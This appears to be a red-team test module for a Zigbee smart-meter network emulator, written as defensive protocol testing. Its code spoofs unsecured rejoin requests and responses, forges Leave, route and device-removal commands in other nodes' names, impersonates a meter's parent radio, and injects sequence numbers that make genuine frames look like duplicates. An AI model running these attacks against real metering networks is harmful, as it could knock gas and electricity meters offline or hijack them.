"""Attacks without keys on the gas meter's parent, on other parents, and on what any MAC or parent remembers."""

from __future__ import annotations

import asyncio

from hanbench.emulator.errors import RemoteProtocolError
from hanbench.emulator.mac import frames as mac
from hanbench.emulator.zigbee.aps import commands as aps_commands
from hanbench.emulator.zigbee.aps import frames as aps
from hanbench.emulator.zigbee.nwk import commands, frames
from tests.redteam.attacker import Attacker
from tests.redteam.attacks import attack
from tests.redteam.with_the_network_key import while_awake
from tests.redteam.without_keys import RX_ON_ROUTER, SLEEPY, rejoin


@attack
async def unsecured_rejoin_at_another_parent(a: Attacker) -> None:
    """The gas meter's at the hub, and the electricity meter's at the repeater: neither is a child there."""

    def lies() -> list[bytes]:
        return [
            rejoin(a, each.ieee, each.short, capability, at)
            for capability in (SLEEPY, RX_ON_ROUTER)
            for each, at in ((a.gsme, a.hub.short), (a.esme, a.router.short))
        ]

    await a.every(8, lies)


@attack
async def unsecured_rejoin_at_another_parent_from_a_taken_address(a: Attacker) -> None:
    """From an address that is not theirs, so that the parent gives them another one (R22, 3.6.1.4.3.2)."""

    def lies() -> list[bytes]:
        return [
            rejoin(a, a.gsme.ieee, a.esme.short, SLEEPY, a.hub.short),
            rejoin(a, a.esme.ieee, a.gsme.short, RX_ON_ROUTER, a.router.short),
            rejoin(a, a.esme.ieee, a.gsme.short, SLEEPY, a.router.short),
        ]

    await a.every(8, lies)


def unsecured(a: Attacker, payload: bytes, src: int, dst: int, ieee: int, kind: int = frames.COMMAND) -> bytes:
    npdu = a.npdu(payload, src=src, dst=dst, kind=kind, ieee=ieee, secured=False)
    return a.data(npdu, dst=dst, src=src)


@attack
async def unsecured_commands_in_the_routers_name(a: Attacker) -> None:
    """Each command that moves a route, a child or a neighbour, without NWK security (R22, 4.3.1.2)."""
    between = ((a.router, a.hub), (a.hub, a.router), (a.router, a.gsme))
    nwk: tuple[commands.NwkCommand, ...] = (
        commands.Leave(request=True),
        commands.Leave(),
        commands.RouteRecord(()),
        commands.RouteReply(1, a.hub.short, a.gsme.short),
        commands.NetworkStatus(0x0C, a.gsme.short),
        commands.LinkStatus(entries=(commands.LinkStatusEntry(0, 7, 7),)),
        commands.NetworkUpdate(extended_pan_id=a.extended_pan_id, update_id=9, pan_id=0x0666),
        commands.EndDeviceTimeoutRequest(timeout=0),
    )
    updates: list[aps_commands.ApsCommand] = [
        aps_commands.UpdateDevice(a.gsme.ieee, 0x4242, status) for status in (0, 1, 2, 3)
    ]
    updates.append(aps_commands.RemoveDevice(a.gsme.ieee))

    def lies() -> list[bytes]:
        found = [unsecured(a, each.encode(), one.short, to.short, one.ieee) for each in nwk for one, to in between]
        for told in updates:
            apdu = aps.command_header(a.next()) + told.encode()
            found += [unsecured(a, apdu, one.short, to.short, one.ieee, frames.DATA) for one, to in between[:2]]
        return found

    await a.every(60, lies)


@attack
async def unsecured_rejoin_responses(a: Attacker) -> None:
    """Answers that no device waits for: another address, and refusals (R22, 3.6.1.4.3)."""

    def lies() -> list[bytes]:
        return [
            unsecured(a, commands.RejoinResponse(short, status).encode(), parent.short, each.short, parent.ieee)
            for short, status in ((0x4242, 0), (0xFFFF, 2))
            for parent, each in ((a.hub, a.esme), (a.parent, a.gsme))
        ]

    await asyncio.gather(a.every(20, lies), while_awake(a, lies))


@attack
async def acknowledgements_in_the_parents_name(a: Attacker) -> None:
    """A radio with the address of the meter's parent, which acknowledges all that is sent to it (Xiao 2006)."""
    a.be(a.parent.short)
    await asyncio.Event().wait()


@attack
async def frames_pending_that_never_come(a: Attacker) -> None:
    """The same radio, and its acknowledgements of the meter's polls say that a frame is pending."""
    a.be(a.parent.short)
    a.radio.source_match(True)
    a.radio.source_match_add(a.gsme.short, extended=False)
    await asyncio.Event().wait()


@attack
async def sequence_numbers_ahead(a: Attacker) -> None:
    """After each frame, another in the sender's name with its next number: the true one looks like a duplicate."""

    def ahead(psdu: bytes) -> None:
        try:
            frame = mac.decode(psdu)
        except RemoteProtocolError:
            return
        if frame.type != mac.DATA or frame.src is None or frame.dst is None or not frame.ack_request:
            return
        following = mac.data(frame.sequence + 1 & 0xFF, a.pan_id, frame.dst, frame.src, b"\x08\x00", ack=False)
        a.later(a.flood([following]))

    a.ears.append(ahead)
    await asyncio.Event().wait()
